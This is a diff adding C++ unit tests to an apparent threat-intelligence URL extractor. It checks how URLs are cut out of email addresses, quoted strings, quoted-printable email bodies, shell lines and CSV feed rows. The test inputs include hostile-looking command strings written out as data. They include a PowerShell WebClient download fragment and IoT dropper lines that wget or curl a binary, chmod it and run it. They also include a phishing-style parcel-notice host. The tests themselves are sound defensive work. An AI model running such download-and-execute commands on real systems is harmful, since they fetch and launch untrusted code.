@@ -217,13 +217,18 @@ TEST(UrlPrecision, PartsOfEmailAddressesAreNoUrls) {
         }
     }
     // Spaced at-signs, as the e-mail rule reads them, also at any piece size.
-    for (const char* at : {" [at] ", " [AT] ", " (at) ", " {at} ", " [@] ", " @ ", " [ at ] ", "[ @ ]", "[at] "}) {
+    // Up to three spaces (the e-mail rule's kEmailMaxSpaces) as far as the
+    // eight bytes before the token reach (before: one space after it).
+    for (const char* at : {" [at] ", " [AT] ", " (at) ", " {at} ", " [@] ", " @ ", " [ at ] ", "[ @ ]", "[at] ",
+                           "  [at]  ", " [at]   ", " [ at ]  ", " [  @ ]  ", " {at}   "}) {
         const std::string text = std::string("mail ops") + at + "example[.]org, ops" + at + "evil\\.com x";
         EXPECT_EQ(urls(text), V{}) << text;
         for (std::size_t piece : {1u, 2u, 3u, 5u, 7u}) {
             EXPECT_EQ(values_of(scan_pieces(text, options_for({Type::url}), piece), Type::url), V{}) << text;
         }
     }
+    // More spaces than the e-mail rule joins: no address, so a URL.
+    EXPECT_EQ(urls("ops [at]    example[.]org ops  @  evil[.]net"), (V{"example[.]org", "evil[.]net"}));
     // Prose: "at" as a word, an at-sign glued on one side only.
     EXPECT_EQ(urls("the server at evil[.]com, x@ evil[.]net, [a] evil[.]org"),
               (V{"evil[.]com", "evil[.]net", "evil[.]org"}));
@@ -409,6 +414,61 @@ TEST(UrlPrecision, MultiplicationAndDivisionSignsEndAGenericUrl) {
                   (V{"http://evil.com", "hxxp://evil[.]com", "http://evil.com/x"}))
             << piece;
     }
+}
+
+TEST(UrlPrecision, AQuoteOpenedBeforeTheUrlEndsIt) {
+    // A PowerShell or JavaScript string: the closing quote ends the URL
+    // (before: "http://evil.example/ping';$w=New-Object").
+    const std::string shell = "powershell -c \"$u='http://evil.example/ping';$w=New-Object Net.WebClient\"";
+    const std::string code = "u=`hxxp://a[.]example/x`+b; v='evil[.]com/p?q=1'.split() w='http://a/1','http://b/2'";
+    for (std::size_t piece : {0u, 1u, 2u, 3u, 7u}) {
+        EXPECT_EQ(values_of(scan_pieces(shell, options_for({Type::url}), piece), Type::url), V{"http://evil.example/ping"})
+            << piece;
+        EXPECT_EQ(values_of(scan_pieces(code, options_for({Type::url}), piece), Type::url),
+                  (V{"hxxp://a[.]example/x", "evil[.]com/p?q=1", "http://a/1", "http://b/2"}))
+            << piece;
+    }
+    // Without a quote before it, "'" is a path's byte.
+    EXPECT_EQ(urls("see http://x.example/it's-here and (http://x.example/a'b)"),
+              (V{"http://x.example/it's-here", "http://x.example/a'b"}));
+}
+
+TEST(UrlPrecision, QuotedPrintableSoftLineBreakEndsNoUrl) {
+    // An e-mail body in quoted-printable breaks lines with "=": in the host
+    // it leaves a piece of a name (before: "https://dhl-parc="), in the path
+    // it goes (before: kept), in a query only when the URL holds "=3D" (a
+    // query's "=" written in quoted-printable); else it may be a key's.
+    const std::string body = "see https://dhl-parc=\nel-notice.com/track\r\nor https://evil.example/tr=\r\nack "
+                             "evil[.]example/a/b=\nc http://x.example/?q=\n http://y.example/?a=3Db&c=\n";
+    for (std::size_t piece : {0u, 1u, 2u, 3u, 20u, 21u, 22u}) {
+        EXPECT_EQ(values_of(scan_pieces(body, options_for({Type::url}), piece), Type::url),
+                  (V{"https://evil.example/tr", "evil[.]example/a/b", "http://x.example/?q=", "http://y.example/?a=3Db&c"}))
+            << piece;
+    }
+    // Not before a line break, "=" stays; at the end of input too.
+    EXPECT_EQ(urls("http://x.example/a= http://y.example/b="), (V{"http://x.example/a=", "http://y.example/b="}));
+}
+
+TEST(UrlPrecision, ShellCommandAfterASemicolonIsNoPartOfTheUrl) {
+    // An IoT dropper's request, its spaces written "+" (before: the URL
+    // "http://1.2.3.4/x86;chmod+777+x86;./x86").
+    EXPECT_EQ(urls("cd /tmp; wget+http://1.2.3.4/x86;chmod+777+x86;./x86 wget http://5.6.7.8/a;sh x "
+                   "curl -O http://x.example/b;./b http://x.example/c;RM+-rf+c"),
+              (V{"http://1.2.3.4/x86", "http://5.6.7.8/a", "http://x.example/b", "http://x.example/c"}));
+    // Path parameters stay.
+    EXPECT_EQ(urls("http://x/a;jsessionid=1?b http://x/b;cdn=2 http://x/c;shop http://x/d;chmod.txt"),
+              (V{"http://x/a;jsessionid=1?b", "http://x/b;cdn=2", "http://x/c;shop", "http://x/d;chmod.txt"}));
+}
+
+TEST(UrlPrecision, ACsvRowsFirstFieldEndsBeforeADate) {
+    // A feed's row starting with the URL: the next field a date (before:
+    // the whole row was the URL).
+    EXPECT_EQ(urls("http://evil.example/a.exe,2024-01-01,malware_download\n"
+                   "hxxp://b[.]example/x,2024-01-02T10:00:00Z,c2\nevil[.]net/y,2024-01-03"),
+              (V{"http://evil.example/a.exe", "hxxp://b[.]example/x", "evil[.]net/y"}));
+    // A comma before other text stays, a date inside a name too.
+    EXPECT_EQ(urls("https://maps.example/@47.6,-122.3,15z http://x/?a=1,2,3 http://x/r,2024-01-01.pdf"),
+              (V{"https://maps.example/@47.6,-122.3,15z", "http://x/?a=1,2,3", "http://x/r,2024-01-01.pdf"}));
 }
 
 TEST(UrlPrecision, MarkdownEmphasisAroundAUrlIsNoPartOfIt) {
